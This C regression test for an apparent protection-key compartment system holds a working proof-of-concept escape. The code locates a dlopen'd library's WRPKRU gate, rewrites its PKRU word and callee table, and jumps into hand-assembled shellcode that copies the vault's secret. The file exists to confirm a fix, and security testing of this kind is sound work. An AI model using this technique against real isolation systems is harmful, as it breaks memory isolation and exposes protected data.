// The supervisor's scan lets a dlopen'd library keep a WRPKRU that is a
// checked gate listed in its .bulkhead.gates (runtime/supervisor-exec.c):
// a library built with bulkhead-clang -fpkey-compartments -shared (no
// compartment in it, so the pass's stand-ins: a read-only default
// descriptor of its own, enforced = 0). Here it is compiled with the flag
// and linked by plain clang, as libtool links: the driver, which now
// writes a -shared link's gates as traps, never sees the link, so the
// WRPKRU is still there. The gate loads its PKRU from that
// descriptor and checks it against the same word; the word is safe only if
// nobody can change it. In an object loaded before main it is protected
// memory (the filter refuses mprotect there), but a library loaded later
// is no protected range: plain mprotect(PROT_READ | PROT_WRITE) of its
// read-only page is allowed. The default domain makes the stand-in
// descriptor writable and sets its PKRU word to 0 (every key); it makes
// the trampoline's way on work for it: its stack slot (key-0 TLS) points
// at a buffer of its own, and its one-entry callee table (read-only data
// of the library, a 32-bit offset) at code of its own (a sealed memfd
// without WRPKRU, mapped near the library: the scan lets it through).
// Then it jumps to the gate (its xor ecx, edx; mov; WRPKRU; cmp; je): the
// check passes, the trampoline calls that code with PKRU 0, and it copies
// the vault's page. Found in the third review of
// the default domain's program counter (attacker model B); reproduced in
// the QEMU guest (6.1) as uid 65534.
//
// Fixed: after start-up the supervisor accepts no WRPKRU in a new
// executable mapping, gate or not (compartments are not supported in
// shared objects yet: docs/shared-objects.md). The child dies at dlopen.
// REQUIRES: pku
// RUN: %bulkhead_clang -fpkey-compartments -fPIC -O2 -c %S/Inputs/clean-lib.c -o %t.gate.o
// RUN: %clang -shared %t.gate.o -o %t.gate.so
// RUN: %bulkhead_clang -fpkey-compartments -fno-pkey-syscall-filter -O2 %s -o %t.off -ldl
// RUN: env BULKHEAD_VM_FILES=%t.gate.so %run %t.off %t.gate.so | FileCheck %s --check-prefix=OFF
// RUN: %bulkhead_clang -fpkey-compartments -O2 %s -o %t.on -ldl
// RUN: env BULKHEAD_VM_FILES=%t.gate.so %run %t.on %t.gate.so | FileCheck %s --check-prefix=ON
// OFF: == gate-word
// OFF: ATTACK SUCCEEDED: a dlopen'd library's gate with its word rewritten read "vault-secret
// ON-NOT: ATTACK SUCCEEDED
// ON: gate-word: stopped by signal 9
// ON: parent's vault intact: 1
#include "Inputs/target.h"
#include <dlfcn.h>
#include <grp.h>
#include <link.h>

#ifndef F_ADD_SEALS
#define F_ADD_SEALS 1033
#define F_SEAL_WRITE 0x0008
#endif

static const char *lib;
static volatile unsigned char flip = 0x10;
static char stack[1 << 16] __attribute__((aligned(64)));
#define HOW "a dlopen'd library's gate with its word rewritten"
/* What the code below prints, the vault's bytes copied in at the quote
 * (report_read's line). */
static char msg[] = "ATTACK SUCCEEDED: " HOW " read \"-----------------------------\"\n";

struct code {
  uintptr_t lo, hi;
};
static int find_code(struct dl_phdr_info *info, size_t size, void *arg) {
  (void)size;
  struct code *c = arg;
  if (!info->dlpi_name || !strstr(info->dlpi_name, lib))
    return 0;
  for (int j = 0; j < info->dlpi_phnum; j++)
    if (info->dlpi_phdr[j].p_type == PT_LOAD && info->dlpi_phdr[j].p_flags & PF_X) {
      c->lo = info->dlpi_addr + info->dlpi_phdr[j].p_vaddr;
      c->hi = c->lo + info->dlpi_phdr[j].p_memsz;
    }
  return 1;
}

static unsigned char *put64(unsigned char *p, const unsigned char *op, uint64_t v) {
  memcpy(p, op, 2);
  memcpy(p + 2, &v, 8);
  return p + 10;
}

/* Still PKRU 0: copy 29 bytes of the vault into msg, write(1, msg),
 * exit_group(0). In a sealed memfd mapped executable within 2 GiB of
 * near. */
static unsigned char *steal_code(uintptr_t near) {
  static unsigned char page[4096];
  unsigned char *p = page;
  char *quote = strchr(msg, '"') + 1;
  uint32_t len = (uint32_t)strlen(msg);
  p = put64(p, (const unsigned char *)"\x48\xbe", (uintptr_t)vault_data);
  p = put64(p, (const unsigned char *)"\x48\xbf", (uintptr_t)quote);
  memcpy(p, "\xb9\x1d\x00\x00\x00\xf3\xa4\xb8\x01\x00\x00\x00\xbf\x01\x00\x00\x00", 17), p += 17;
  p = put64(p, (const unsigned char *)"\x48\xbe", (uintptr_t)msg);
  *p++ = 0xba, memcpy(p, &len, 4), p += 4;
  memcpy(p, "\x0f\x05\xb8\xe7\x00\x00\x00\x31\xff\x0f\x05", 11);
  int fd = memfd_create("steal", MFD_CLOEXEC | MFD_ALLOW_SEALING);
  if (fd < 0 || write(fd, page, 4096) != 4096 || fcntl(fd, F_ADD_SEALS, F_SEAL_WRITE))
    return NULL;
  for (uintptr_t at = page_of((void *)near) + (64 << 20); at < near + (1ul << 30); at += 64 << 20) {
    unsigned char *m = mmap((void *)at, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
    if (m != MAP_FAILED && (uintptr_t)m - near < (1ul << 31))
      return m;
    if (m != MAP_FAILED)
      munmap(m, 4096);
  }
  return NULL;
}

static void gate_word(void) {
  if (getuid() == 0 && (setgroups(0, NULL) || setresgid(65534, 65534, 65534) ||
                        setresuid(65534, 65534, 65534))) {
    printf("setup: %s\n", strerror(errno));
    return;
  }
  void *h = dlopen(lib, RTLD_NOW);
  struct code c = {0, 0};
  if (h)
    dl_iterate_phdr(find_code, &c);
  /* The gate: xor ecx; xor edx; mov W(%rip),%eax; WRPKRU; cmp; je; ud2. */
  unsigned char *g = NULL, *lea = NULL;
  for (uintptr_t p = c.lo; p + 16 < c.hi && !g; p++) {
    const unsigned char *b = (const unsigned char *)p;
    if (!memcmp(b, "\x31\xc9\x31\xd2\x8b\x05", 6) && b[10] == 0x0f && b[11] == 0x01 &&
        b[12] == (0xff ^ flip))
      g = (unsigned char *)p;
  }
  /* After it: mov GOT(%rip),%rcx (the stack slot's TLS offset); later
   * lea TABLE(%rip),%r10 (the callee table). */
  for (unsigned char *p = g ? g + 23 : NULL; p && p < g + 160 && !lea; p++)
    if (!memcmp(p, "\x4c\x8d\x15", 3))
      lea = p;
  if (!g || !lea || memcmp(g + 23, "\x48\x8b\x0d", 3)) {
    report_read(HOW " (no gate found)", NULL);
    return;
  }
  int32_t rel;
  memcpy(&rel, g + 6, 4);
  uint32_t *w = (uint32_t *)(g + 10 + rel);
  memcpy(&rel, g + 26, 4);
  uintptr_t slot = *(const uintptr_t *)(g + 30 + rel);
  memcpy(&rel, lea + 3, 4);
  int32_t *table = (int32_t *)(lea + 7 + rel);
  unsigned char *code = steal_code((uintptr_t)table);
  if (!code || mprotect((void *)page_of(w), 4096, PROT_READ | PROT_WRITE) ||
      mprotect((void *)page_of(table), 4096, PROT_READ | PROT_WRITE)) {
    report_read(HOW, NULL);
    return;
  }
  *w = 0;                                           /* every key */
  *table = (int32_t)((intptr_t)code - (intptr_t)table); /* the callee */
  uintptr_t top = (uintptr_t)(stack + sizeof stack - 64);
  __asm__ volatile("movq %0, %%fs:(%1)" : : "r"(top), "r"(slot) : "memory");
  printf("jumping to the gate\n");
  fflush(stdout);
  __asm__ volatile("xorl %%r13d, %%r13d\n\tjmp *%0" : : "r"(g) : "r13", "memory");
  __builtin_unreachable();
}

int main(int argc, char **argv) {
  if (argc < 2)
    return 2;
  lib = argv[1];
  struct attack a[] = {{"gate-word", gate_word}};
  return run_attacks(a, 1);
}
